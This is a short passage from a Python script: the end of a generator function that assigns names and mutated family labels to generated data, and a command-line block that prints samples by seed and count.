        family = f'{fam}+mut'
    name = rng.choice(FAMILY_NAMES[fam] if rng.random() < 0.8 else NAMES)
    return name, family, data


if __name__ == '__main__':
    import sys
    s = int(sys.argv[1]) if len(sys.argv) > 1 else 1
    for i in range(int(sys.argv[2]) if len(sys.argv) > 2 else 10):
        n, f, d = generate(s, i)
        print(i, n, f, len(d), d[:60])
